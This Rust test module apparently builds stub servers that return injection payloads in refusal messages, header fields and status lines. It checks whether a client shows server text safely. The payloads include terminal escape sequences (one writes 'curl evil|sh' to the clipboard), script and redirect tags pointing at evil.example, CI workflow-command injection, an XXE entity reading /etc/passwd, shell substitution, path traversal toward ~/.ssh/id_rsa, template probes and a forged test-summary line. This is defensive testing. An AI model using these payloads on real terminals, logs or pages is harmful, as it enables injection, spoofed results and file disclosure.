//! Servers whose texts would do something if they were shown as they are.

use serde_json::{Value, json};

use super::behaviour::{REFUSAL, bytes, granting, refusing};
use super::{Server, server};
use crate::stub_server::{AWS, Stub};

/// Texts that do something in a terminal, a browser, a table of Markdown, a log of CI, a shell or a template.
const TEXTS: [(&str, &str); 20] = [
    ("colours", "\u{1b}[31mred\u{1b}[2J\u{1b}[1;1H\u{1b}[?1049h\u{7}\u{8}ok"),
    ("hyperlink", "\u{1b}]8;;http://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\"),
    ("clipboard", "\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7} \u{1b}P+q544e\u{1b}\\ \u{9d}52;c;aGk=\u{9c}"),
    ("overwriting", "FAIL\rPASS  \r\npass all good\u{8}\u{8}\u{8}\u{8}"),
    ("script", "<pwned><script>document.title='PWNED'</script><img src=x onerror=\"document.title='PWNED'\">"),
    ("closing-tags", "</pre></details></td></table></main></script></style><pwned>-->]]>"),
    (
        "base-and-style",
        "<pwned><style>*{display:none}</style><base href=http://evil.example/><meta http-equiv=refresh content=0>",
    ),
    ("table", "a | b | c |\n|---|---|\n| <pwned> | y |"),
    ("fences", "` `` ``` ```` ~~~ \n```\n# H1\n```sh\nrm -rf\n```\n<pwned>"),
    ("links", "[click](http://evil.example) ![img](http://evil.example/x.png) <pwned> [a]: http://evil.example"),
    ("mentions", "@octocat #1 org/repo#2 :rocket: $x^2$ GH-1"),
    (
        "workflow-commands",
        "::set-output name=x::y\n::error::PWNED\n::stop-commands::t\n##[error]PWNED\n ##vso[task.setvariable variable=x]y",
    ),
    (
        "workflow-commands-behind-other-line-ends",
        "x\r::error::PWNED\u{2028}::error::PWNED\u{85}::error::PWNED\u{b}::error::PWNED",
    ),
    ("direction-marks", "\u{202e}evil\u{202c} \u{2066}a\u{2069} \u{200f}\u{200e} \u{61c}"),
    ("invisible-marks", "a\u{200b}b\u{200c}c\u{200d}d\u{feff}e\u{ad}f\u{e0041}"),
    (
        "no-characters-of-xml",
        "\u{0}\u{1}\u{b}\u{c}\u{1f}\u{7f} ]]> &amp; &#0; <![CDATA[ x ]]> <!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;",
    ),
    ("commands-of-a-shell", "`touch PWNED` $(touch PWNED); touch PWNED | sh ' \" \\ \n'; touch PWNED; '"),
    ("paths", "../../../../PWNED /etc/passwd C:\\PWNED r.json ~/.ssh/id_rsa"),
    ("templates", "{{7*7}} {% for x in y %} ${7*7} <%= 7*7 %> %s %n {} {0}"),
    ("a-summary", "x\n\nTotals\n395 cases: 395 pass; 395 checks\nconformant for core, custom-domain, signature"),
];

fn refusal(kind: &str, message: &str) -> Value {
    json!({ "__type": kind, "message": message })
}

/// The text without what ends a field of a header.
fn in_a_field(text: &str) -> String {
    text.chars().map(|character| if matches!(character, '\r' | '\n' | '\0') { ' ' } else { character }).collect()
}

pub(super) fn servers() -> Vec<Server> {
    let failed = (1, "fail");
    // Fields with control characters are no HTTP.
    let lost = (3, "indeterminate");
    let in_messages = TEXTS.into_iter().map(|(name, text)| {
        // Everywhere in a refusal at once: the message, the type, names and values of other members.
        let mut body = refusal("ValidationException", text);
        body[text] = json!({ text: [text] });
        server(name, failed, refusing(body.to_string()))
    });
    let elsewhere = [
        server("a-type-of-commands", failed, refusing(refusal(TEXTS[11].1, "m").to_string())),
        server("a-type-of-tags", failed, refusing(refusal(TEXTS[4].1, "m").to_string())),
        server(
            "members-of-tags",
            failed,
            granting(json!({ "dbUser": TEXTS[4].1, TEXTS[5].1: { TEXTS[4].1: 1 } }).to_string()),
        ),
        server(
            "members-of-commands",
            failed,
            granting(json!({ "expiration": TEXTS[11].1, TEXTS[12].1: TEXTS[13].1 }).to_string()),
        ),
        server("a-page-of-tags", failed, Stub::of_operations(bytes("400 Bad", "text/html", "", TEXTS[5].1.as_bytes()))),
        server(
            "a-page-of-commands",
            failed,
            Stub::of_operations(bytes("400 Bad", "text/plain", "", TEXTS[12].1.as_bytes())),
        ),
        server("fields-of-everything", lost, {
            let fields = TEXTS.into_iter().enumerate();
            let fields: Vec<_> =
                fields.map(|(number, (_, text))| format!("x-{number}: {}\r\n", in_a_field(text))).collect();
            Stub::of_operations(bytes("400 Bad", AWS, &fields.concat(), REFUSAL.as_bytes()))
        }),
        server("fields-that-are-read", failed, {
            let text = in_a_field(TEXTS[4].1);
            let fields =
                format!("x-amzn-requestid: {text}\r\nx-amzn-errortype: {text}\r\nserver: {text}\r\ndate: {text}\r\n");
            Stub::of_operations(bytes("400 Bad", &text, &fields, b"{}"))
        }),
        server(
            "a-reason-of-commands",
            failed,
            Stub::of_operations(bytes("400 ::error::PWNED <pwned>", AWS, "", REFUSAL.as_bytes())),
        ),
        server(
            "a-letter-with-two-thousand-marks",
            failed,
            refusing(refusal("ValidationException", &format!("Z{}", "\u{300}".repeat(2000))).to_string()),
        ),
        server(
            "flags-and-letters-beyond",
            failed,
            refusing(refusal("ValidationException", &"\u{1f1e9}\u{1f1ea}\u{20000}".repeat(5000)).to_string()),
        ),
    ];
    in_messages.chain(elsewhere).collect()
}
